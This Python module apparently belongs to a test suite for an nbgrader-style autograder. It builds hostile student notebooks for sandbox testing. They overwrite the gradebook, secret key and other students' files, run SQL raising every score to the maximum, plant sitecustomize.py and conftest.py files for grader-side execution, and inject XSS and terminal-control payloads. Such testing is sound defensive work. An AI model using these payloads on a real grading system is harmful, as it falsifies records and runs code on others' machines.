"""Attacks 23, 25, 26 and 28: to change something that others read or run."""

from __future__ import annotations

import json

from nbformat import NotebookNode

from trials.attacks.base import Attack, Files, Scene, hostile, loss, plain, text, with_answer
from trials.classroom.mutations import cell_of

RECORDS = """
import glob, os, sqlite3
for top in (COURSE, ROOT + "/autograder"):
    for name in ("gradebook.db", "secret.key", "nbgrader_config.py", "submitted/ada/ps8/ps8.ipynb", "autograded/ada/ps8/ps8.ipynb",
                 "feedback/ada/ps8/ps8.html", "graded/ps8/ada.json", "source/ps8/ps8.ipynb", "prepared/ada/ps8/ps8.ipynb"):
        for how in ("ab", "r+b", "wb"):
            try: open(os.path.join(top, name), how).write(b"changed by an attack")
            except OSError: pass
    try: sqlite3.connect(os.path.join(top, "gradebook.db")).execute("update grade set auto_score = max_score")
    except Exception as e: print(type(e).__name__)
for path in (MARKS + "/written", HOME + "/.bashrc", "/usr/lib/x", "/packages/ps8/x.py", "/packages/autograder/collector/inkernel.py"):
    try: open(path, "a").write("changed by an attack")
    except OSError: pass
"""
START_UP = """
import os, sys, site
code = "open(%r, 'w').write('ran on the wrong side')" % (MARKS + "/ran")
places = [os.path.expanduser("~"), os.getcwd(), "/tmp", "/dev/shm", site.getusersitepackages(), "/exchange/evidence", *sys.path]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "numpy.py", "ps8.py", "x.pth", ".ipython/profile_default/startup/a.py",
                 ".config/matplotlib/matplotlibrc", ".jupyter/jupyter_config.py", "nbgrader_config.py"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            open(os.path.join(place, name), "w").write(code)
        except OSError: pass
"""


def importable(scene: Scene) -> Files:
    """Files whose names something on our side might import or run."""
    code = f"open({str(scene.marks / 'imported')!r}, 'w').write('ran on the wrong side')\n".encode()
    names = ["sitecustomize.py", "usercustomize.py", "conftest.py", "numpy.py", "torch/__init__.py", "ps8.py", "evil.pth",
             "nbgrader_config.py", "autograder/__init__.py", "alembic.py", ".jupyter/jupyter_config.py", "setup.py"]  # fmt: skip
    made = hostile(before=START_UP)(scene)
    return {"ps8.ipynb": made, **dict.fromkeys(names, code)}


ACTIVE = '<script>alert("ps8xss")</script><img src=x onerror=alert("ps8xss")><svg onload=alert("ps8xss")></svg>'
ACTIVE += "<iframe src=\"javascript:alert('ps8xss')\"></iframe><a href=\"javascript:alert('ps8xss')\">ps8xss</a>"
PAGE = f"""
from IPython.display import HTML, Javascript, SVG, Markdown, display
active = {ACTIVE!r}
display(HTML(active)); display(Javascript('alert("ps8xss")')); display(Markdown(active + "[ps8xss](javascript:alert(1))"))
display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>ps8xss</script></svg>"}}, raw=True)
display({{"text/latex": "$\\\\href{{javascript:alert(1)}}{{ps8xss}}$", "text/plain": active}}, raw=True)
display({{"application/vnd.ps8xss+json": {{"a": active}}, "image/png": "PHNjcmlwdD5wczh4c3M8L3NjcmlwdD4="}}, raw=True)
print(active)
"""


def active_page(scene: Scene) -> bytes:
    """Script in outputs, stored and live, in Markdown, in an attachment, in an error and in metadata."""
    answer = loss(f"raise ValueError({ACTIVE!r})", PAGE)
    notebook = with_answer(scene, answer)
    notebook.metadata["title"] = notebook.metadata["authors"] = ACTIVE
    report = cell_of(notebook, "report_numbers")
    if report is not None:
        report.source = (
            ACTIVE
            + "\n\n[ps8xss](javascript:alert('ps8xss')) <math><mtext onclick=alert(1)>ps8xss</mtext></math>\n\n![a](attachment:a.png)"
        )
        report["attachments"] = {"a.png": {"image/svg+xml": ACTIVE, "image/png": "PHN2Zz4="}, '"><script>ps8xss</script>': {}}
    own = NotebookNode(
        cell_type="markdown", id="own", metadata=NotebookNode(), source=ACTIVE + " <style>*{display:none}</style>"
    )
    notebook.cells.insert(3, own)
    return text(notebook)


CONTROL = "\\x1b[2J\\x1b]0;ps8title\\x07\\x1b[31m\\x00\\x08\\x9b\\u202e\\ud800 end"
TERMINAL = f"""
print("{CONTROL}".encode("utf-8", "replace").decode("utf-8", "replace"))
import os
for stream in (1, 2):
    try: os.write(stream, b"\\x1b[2J\\xff\\xfe raw")
    except OSError: pass
display({{"text/plain": "\\x1b[2J\\x00plain"}}, raw=True)
"""


def surrogates(scene: Scene) -> bytes:
    """Control characters in the file, in outputs and in an error; a lone surrogate in the source."""
    notebook = with_answer(scene, loss(f'raise ValueError("{CONTROL}")', TERMINAL))
    raw = json.loads(text(notebook))
    raw["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": "\ud800 \x1b[2J \x00"})
    return json.dumps(raw).encode()


def mark_scheme(scene: Scene) -> bytes:
    """Nbgrader's own markers in an answer, so that cutting out hidden tests fails or cuts too much."""
    markers = "### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION\n### END MARK SCHEME\n"
    return text(plain(before=markers)(scene))


ATTACKS = [
    Attack("records", 23, "writes over gradebook, secret, feedback and other submissions", hostile(before=RECORDS)),
    Attack("importable", 25, "hands in and writes files that our side might import or run", importable),
    Attack("active-page", 26, "puts script into outputs, Markdown, attachments, errors and metadata", active_page,
           feedback="ValueError"),
    Attack("markers", 26, "writes nbgrader's markers into an answer", mark_scheme),
    Attack("terminal", 28, "puts ANSI codes, control characters and lone surrogates everywhere", surrogates,
           feedback="ValueError"),
]  # fmt: skip
